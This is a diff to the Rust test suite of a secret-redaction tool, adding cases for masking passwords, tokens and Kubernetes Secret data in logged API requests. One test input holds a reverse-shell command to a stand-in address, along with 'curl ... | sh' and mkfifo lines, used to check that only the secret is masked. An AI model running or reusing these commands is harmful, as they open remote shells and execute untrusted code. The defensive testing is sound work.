@@ -189,6 +189,122 @@ fn names_that_are_numbered_or_run_together() {
     }
 }
 
+/// Rules look for what a command does.
+#[test]
+fn of_a_command_only_the_secret_is_taken() {
+    uri(
+        "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=PASS%3Dhunter2%3Bbash+-i+%3E%26+%2Fdev%2Ftcp%2F192.0.2.1%2F443",
+        &expect![
+            "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=PASS%3Dredacted:password:326e%3Bbash+-i+%3E%26+%2Fdev%2Ftcp%2F192.0.2.1%2F443"
+        ],
+    );
+    body(
+        "pods",
+        r#"{"spec":{"containers":[{"command":["sh","-c"],"args":["TOKEN=hunter2 curl http://h/x | sh\nexport PASSWORD=hunter2; mkfifo /tmp/f"],"lifecycle":{"preStop":{"exec":{"command":["sh","-c","password: hunter2 rest"]}}}}]}}"#,
+        &expect![[
+            r#"{"spec":{"containers":[{"command":["sh","-c"],"args":["TOKEN=redacted:token:326e curl http://h/x | sh\nexport PASSWORD=redacted:password:326e; mkfifo /tmp/f"],"lifecycle":{"preStop":{"exec":{"command":["sh","-c","password: redacted:password:326e rest"]}}}}]}}"#
+        ]],
+    );
+}
+
+#[test]
+fn braces_of_other_languages_hide_no_object_and_no_text() {
+    let objects = r#"kubectl apply -f - <<< '{"kind":"Secret","data":{"conn":"hunter2"}}'"#;
+    hides(&format!("{objects}\n").repeat(200));
+    let script = "# a Secret\nif true; then { echo a\n".repeat(70) + "password=$1\n";
+    leaves(&script);
+    hides(&format!("{script}\n{objects}"));
+}
+
+/// The endings of telling names, word by word.
+const SPELLED: &[&str] = &[
+    "password",
+    "passwords",
+    "bind pw",
+    "passwd",
+    "passphrase",
+    "passcode",
+    "pg pass",
+    "pwd",
+    "token",
+    "token secret",
+    "jwt",
+    "authorization",
+    "api key",
+    "access key",
+    "secret key",
+    "private key",
+    "account key",
+    "signing key",
+    "encryption key",
+    "master key",
+    "auth key",
+    "app key",
+    "license key",
+    "session key",
+    "logged in key",
+    "nonce key",
+    "certificate key",
+    "secret key base",
+    "api keys",
+    "amz signature",
+    "goog signature",
+    "shared access signature",
+    "erlang cookie",
+    "hmac key",
+    "storage key",
+    "consumer key",
+    "client key data",
+    "pre shared key",
+    "secret",
+    "credential",
+    "credentials",
+    "creds",
+];
+
+/// Whatever a name tells the walk, the needles must see: in each spelling, and in each way to give a value.
+#[test]
+fn every_telling_name_is_seen_in_every_spelling() {
+    let redactor = redactor();
+    let (mut seen, mut missed) = (0, Vec::new());
+    for (ending, _) in names::ENDINGS {
+        let is_spelled = |words: &&&str| words.replace(' ', "").as_bytes() == *ending;
+        let words =
+            SPELLED.iter().find(is_spelled).unwrap_or_else(|| panic!("{ending:?} is not among those above"));
+        let parts: Vec<&str> = words.split(' ').collect();
+        let capital = |word: &str| word[..1].to_uppercase() + &word[1..];
+        let camel = parts[0].to_owned() + &parts[1..].iter().copied().map(capital).collect::<String>();
+        for name in [
+            parts.concat(),
+            parts.concat().to_uppercase(),
+            camel,
+            parts.iter().copied().map(capital).collect(),
+            parts.join("_"),
+            parts.join("-"),
+            parts.join("."),
+            parts.join("_").to_uppercase(),
+            parts.join("_").to_uppercase() + "_2",
+            "my-".to_owned() + &parts.join("-"),
+        ] {
+            assert!(redactor.needles.names().telling(name.as_bytes()).is_some(), "{name}");
+            for text in [
+                format!(r#"{{"{name}":"x"}}"#),
+                format!(r#"{{"name":"{name}","value":"x"}}"#),
+                format!(r#"{{"value":"x","name":"{name}"}}"#),
+                format!(r#"{{"a":"{name}=x"}}"#),
+                format!(r#"{{"a":"b\n{name}: x"}}"#),
+                format!(r#"{{"a":"{{\"{name}\":\"x\"}}"}}"#),
+            ] {
+                seen += 1;
+                if !redactor.suspects(text.as_bytes()) {
+                    missed.push(text);
+                }
+            }
+        }
+    }
+    assert!(seen > 1000 && missed.is_empty(), "{missed:#?}");
+}
+
 #[test]
 fn a_value_goes_on_behind_a_comma_that_begins_no_other() {
     text("x password=hunter2,rest y", &expect!["x password=redacted:password:f4a4 y"]);
@@ -201,11 +317,14 @@ fn a_value_goes_on_behind_a_comma_that_begins_no_other() {
         &expect!["redis:6379,password=redacted:password:326e,ssl=true"],
     );
     text("{password: hunter2, user: bob}", &expect!["{password: redacted:password:326e, user: bob}"]);
-    text("password=hunter2; user=bob", &expect!["password=redacted:password:a9c5"]);
+    text("x password=hunter2; user=bob", &expect!["x password=redacted:password:326e; user=bob"]);
 }
 
 #[test]
 fn passwords_in_urls_that_nobody_escaped() {
+    text("x mongodb://u:hun,ter2@h/db", &expect!["x mongodb://u:redacted:url-password:b2cd@h/db"]);
+    hides("postgres://app:7Gk/hunter2@db/app");
+    leaves("etcd http://a:2379/x,http://b:2379/y@z");
     text("x postgres://u:hun@ter2@h/db", &expect!["x postgres://u:redacted:url-password:253f@h/db"]);
     text("x postgres://u:hun/ter2@h/db", &expect!["x postgres://u:redacted:url-password:b917@h/db"]);
     text("x postgres://u:hun#ter2@h/db?a=b", &expect!["x postgres://u:redacted:url-password:ba33@h/db?a=b"]);
@@ -251,6 +370,17 @@ fn the_data_of_secrets_in_other_yaml() {
         hides(manifest);
     }
     leaves("{kind: ConfigMap, data: {conn: left}}\n");
+    text(
+        "{kind: Secret, data: {\n  dsn: hunter2\n}, type: Opaque}\nuser: bob\n",
+        &expect![[r#"
+            {kind: Secret, data: redacted:secret:ed2a
+              dsn: redacted:secret:326e
+            }, type: Opaque}
+            user: bob
+        "#]],
+    );
+    hides("{data: {\n'dsn': hunter2\n}, kind: Secret}\n");
+    hides("{kind: Secret, data: {a: \"x}y}hunter2\"}}\n");
 }
 
 #[test]
@@ -418,6 +548,7 @@ fn more_credentials_by_their_looks() {
         assert!(!told.contains(&tail[tail.len() - 16..]), "{told}");
     }
     leaves("see default-token-abcde");
+    leaves("r.example/auth/token-exchange-service-controller-manager-operator-bundle:v1.2.3-20260101");
 }
 
 #[test]
@@ -429,7 +560,9 @@ fn private_keys_in_comments_and_programs() {
         "-----END RSA PRIVATE KEY-----",
     ];
     for between in ["\n# ", "\n> ", "\n * ", "\\n\"\n    \"", "\\n' +\n'", "\r\n"] {
-        hides(&format!("key = \"{}\"", key.join(between)));
+        let text = format!("key = \"{}\"", key.join(between));
+        hides(&text);
+        hides(&text.replace("hunter2", "").replace("MIIEpAIB", "hunter2"));
     }
     hides(&format!("{}\n", [key[0], "Comment: <bob@shop.example>", "", key[1], key[3]].join("\n")));
 }
@@ -475,9 +608,9 @@ fn the_data_of_secrets() {
     // JSON patches, in whichever order their keys are.
     body(
         "secrets",
-        r#"[{"op":"replace","path":"/data/k","value":"aHVudGVyMg=="},{"value":{"k":"hunter2"},"path":"/stringData","op":"add"},{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"replace","path":"","value":{"data":{"k":"x"}}}]"#,
+        r#"[{"op":"replace","path":"x/data/k","value":"aHVudGVyMg=="},{"value":{"k":"hunter2"},"path":"/stringData","op":"add"},{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"replace","path":"","value":{"data":{"k":"x"}}}]"#,
         &expect![[
-            r#"[{"op":"replace","path":"/data/k","value":"redacted:secret:326e"},{"value":{"k":"redacted:secret:326e"},"path":"/stringData","op":"add"},{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"replace","path":"","value":{"data":{"k":"redacted:secret:5b29"}}}]"#
+            r#"[{"op":"replace","path":"x/data/k","value":"redacted:secret:326e"},{"value":{"k":"redacted:secret:326e"},"path":"/stringData","op":"add"},{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"replace","path":"","value":{"data":{"k":"redacted:secret:5b29"}}}]"#
         ]],
     );
     // What kubectl notes of what it applied, alphabetically: the kind comes after the data.
@@ -913,6 +1046,9 @@ fn hostile_texts_take_no_longer_than_others() {
         format!("\"{}\"", "password=".repeat(20_000)),
         format!("\"{}\"", "eyJ".repeat(3_000)),
         format!("\"{}\"", "://a:".repeat(20_000)),
+        format!("\"password=hunter2 {}\"", "://".repeat(50_000)),
+        format!("\"{{kind: Secret, {} stringData: hunter2\"", "data:[,".repeat(20_000)),
+        format!("\"Secret password=hunter2 {}\"", "{\\\"a\\\":".repeat(20_000)),
         format!("\"{}\"", "-----BEGIN PRIVATE KEY-----".repeat(5_000)),
         format!("\"{}\"", "kind: Secret\\ndata:\\n  a: b\\n".repeat(5_000)),
         format!("\"{}\"", "password: \\\\\\\"".repeat(5_000)),
@@ -1018,6 +1154,11 @@ fn value() -> impl Strategy<Value = serde_json::Value> {
             "field",
             "message",
             "passwordSecret",
+            "command",
+            "args",
+            "bindPW",
+            "X-Amz-Signature",
+            "clientKeyData",
             "x"
         ])
         .prop_map(str::to_owned),
